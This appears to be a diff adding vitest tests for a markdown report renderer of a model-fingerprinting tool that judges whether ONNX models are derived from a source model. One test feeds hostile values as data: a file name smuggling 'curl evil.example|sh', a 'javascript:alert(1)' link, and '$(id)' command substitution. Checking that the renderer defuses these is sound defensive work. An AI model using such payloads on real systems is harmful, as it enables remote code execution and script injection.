@@ -1,0 +1,136 @@
+import { describe, expect, it } from "vitest";
+import { renderReview } from "../../../../src/report/check/markdown/page.ts";
+import { titleOf } from "../../../../src/report/check/markdown/words.ts";
+import type { Report, ReportResult } from "../../../../src/report/check/schema.ts";
+import { shapeErrors, shown } from "../../../support/markdown.ts";
+import { everyVerdict, makeOrigin, makeReport, makeReportFingerprint, makeResult } from "../../../support/report.ts";
+
+const review = (report: Report, budget?: number) => shown(renderReview(report, budget));
+const table = (text: string) => text.split("\n").filter((line) => /^\| <code>/.test(line));
+
+describe("renderReview", () => {
+  it("says the verdict first, in one plain sentence", () => {
+    const text = review(makeReport());
+    expect(text).toMatch(
+      /^## ❌ 1 of 4 models looks derived from source\.onnx\n\n❌ 1 derived, ⚠️ 1 error, ❔ 1 inconc/,
+    );
+    expect(review(makeReport([makeResult()]))).toMatch(/^## ❌ This model looks derived from source\.onnx\n\n\|/);
+    const [honest] = everyVerdict();
+    expect(review(makeReport([honest]))).toMatch(/^## ✅ This model looks unrelated to source\.onnx\n/);
+  });
+
+  it("has a row for every model, the gravest first, told apart without colours", () => {
+    const text = review(makeReport());
+    expect(shapeErrors(text)).toEqual([]);
+    const rows = table(text).map((row) => row.split(" | "));
+    expect(rows.map(([model, verdict]) => `${model} ${verdict}`)).toEqual([
+      "| <code>models/suspect.onnx</code> ❌ **derived**",
+      "| <code>models/broken.onnx</code> ⚠️ **error**",
+      "| <code>models/blind.onnx</code> ❔ **inconclusive**",
+      "| <code>models/honest.onnx</code> ✅ **unrelated**",
+    ]);
+    expect(rows[0].slice(2, 4)).toEqual(["0.002", "0.063"]);
+    expect(rows[1].slice(2)).toEqual(["–", "–", "– |"]);
+  });
+
+  it("names the source of each row where there are several fingerprints", () => {
+    const source = { name: "other.onnx", sha256: "e".repeat(64) };
+    const fingerprints = [makeReportFingerprint(), makeReportFingerprint({ id: "2", path: "2.sac", source })];
+    const results = [makeResult(), makeResult({ fingerprint: "2", verdict: "unrelated" })];
+    const text = review(makeReport(results, { fingerprints }));
+    expect(text).toContain("| Model | Compared with | Verdict |");
+    expect(table(text)[1]).toContain("| <code>models/suspect.onnx</code> | <code>other.onnx</code> | ✅");
+    expect(text).toContain("Fingerprint <code>2.sac</code>");
+  });
+
+  it("puts before the table what bears on whether to trust it, and what explains it after", () => {
+    const text = review(makeReport(undefined, { origin: makeOrigin() }));
+    const at = (part: string) => {
+      expect(text).toContain(part);
+      return text.indexOf(part);
+    };
+    expect(at("> - This change touches the fingerprint source.sac")).toBeLessThan(at("| Model |"));
+    expect(at("- More files are changed than GitHub lists")).toBeGreaterThan(at("| Model |"));
+    expect(at("- No unrelated model has the architecture vgg.")).toBeGreaterThan(at("| Model |"));
+  });
+
+  it("says what kept models from being judged, and how to mend it", () => {
+    expect(review(makeReport())).toContain(
+      "- ⚠️ <code>models/broken.onnx</code>: **error**. <code>MODEL_TRUNCATED</code>: The model ends too early. **Fix:** Fetch it again.\n",
+    );
+    expect(review(makeReport())).toContain("**inconclusive**. It gives the same answer to every image.");
+  });
+
+  it("says what the verdict is worth and what to do", () => {
+    const text = review(makeReport(undefined, { origin: makeOrigin() }));
+    expect(text).toContain("never proof of theft");
+    expect(text).toContain("1. **Hold this change until a person has looked at it.**");
+    expect(review(makeReport())).toContain("1. **Hold releases of the model until");
+    expect(text).toContain("No verdict is no pass.");
+    const [honest] = everyVerdict();
+    expect(review(makeReport([honest]))).not.toContain("proof of theft");
+    expect(review(makeReport([honest]))).toContain("**What to do next.** Nothing needs to be done.");
+  });
+
+  it("tells where the report comes from and how to repeat it, folded", () => {
+    const text = review(makeReport(undefined, { origin: makeOrigin() }));
+    expect(text).toContain("[the run](https://github.com/octo-org/models/actions/runs/3)");
+    expect(text).toContain(
+      `git fetch origin pull/7/head\ngit checkout ${"2".repeat(40)}\nsac check --device cpu source.sac --`,
+    );
+    expect(text).toContain(`SHA-256 <code>${"b".repeat(64)}</code>`);
+    expect(text).toContain("Ran on: cpu (asked for: cpu)");
+  });
+
+  it("makes no link of what is no run's address, and no command of what a shell would act on", () => {
+    const results = [makeResult({ path: "a;curl evil.example|sh.onnx" })];
+    for (const runUrl of ["https://evil.example/", "javascript:alert(1)", "https://a/b/c/actions/runs/3) [x](y"]) {
+      const text = renderReview(makeReport(results, { origin: makeOrigin({ runUrl, commit: "$(id)", head: "`id`" }) }));
+      expect(text).not.toContain("](");
+      expect(text.slice(text.indexOf("```sh"))).toMatch(
+        /^```sh\nsac check --device cpu source\.sac -- MODEL\.onnx --html/,
+      );
+    }
+  });
+
+  it("draws the derived beyond the line, and nothing else", () => {
+    const unrelated = Array.from({ length: 20 }, (_, i) => ({ sac: 0.5, fusion: -1 + i / 10 }));
+    const references = [{ comparedBy: "scores" as const, unrelated, derived: [{ sac: 0.1, fusion: 9 }] }];
+    const fingerprints = [makeReportFingerprint({ references })];
+    const scored = (score: number, verdict: ReportResult["verdict"]) =>
+      makeResult({ score, verdict, rule: "conformal" });
+    const results = [scored(9, "derived"), scored(0.91, "derived"), scored(0.89, "unrelated"), scored(-1, "unrelated")];
+    const bars = table(review(makeReport(results, { fingerprints }))).map((row) => /`(.*)`/.exec(row)?.[1]);
+    expect(bars).toEqual(["██│██████████", "██│█░░░░░░░░░", "██│░░░░░░░░░░", "░░│░░░░░░░░░░"]);
+  });
+
+  it("says the limit of the distance where a rule has one", () => {
+    const results = [makeResult({ rule: "threshold", threshold: 0.1, pValue: undefined })];
+    const text = review(makeReport(results));
+    expect(text).toContain("| 0.063 (limit 0.100) |");
+    expect(text).not.toContain("p-value");
+  });
+
+  it("tells a fallback to another device once", () => {
+    const reasons = [{ code: "DEVICE_FALLBACK", text: "Run on the CPU." }];
+    const text = review(makeReport([makeResult({ reasons }), makeResult({ path: "b.onnx", reasons })]));
+    expect(text.match(/Run on the CPU\./g)).toHaveLength(1);
+  });
+
+  it("begins with what the frame says", () => {
+    const text = shown(renderReview(makeReport(), undefined, { title: "Do not trust this", notes: ["A note."] }));
+    expect(text).toMatch(/^## ⚠️ Do not trust this\n/);
+    expect(text.indexOf("> - A note.")).toBeLessThan(text.indexOf("| Model |"));
+  });
+});
+
+describe("a title", () => {
+  it("is one line of plain text and short, whatever the source is called", () => {
+    const name = `\n::error::@all ${"\u202e模型".repeat(2000)}`;
+    const fingerprints = [makeReportFingerprint({ source: { name, sha256: "c".repeat(64) } })];
+    const title = titleOf(makeReport(undefined, { fingerprints }));
+    expect(title.length).toBeLessThanOrEqual(200);
+    expect(title).not.toMatch(/[\p{Cc}\p{Cf}]/u);
+    expect(titleOf(makeReport([makeResult()]))).toBe("This model looks derived from source.onnx (models/suspect.onnx)");
+  });
+});
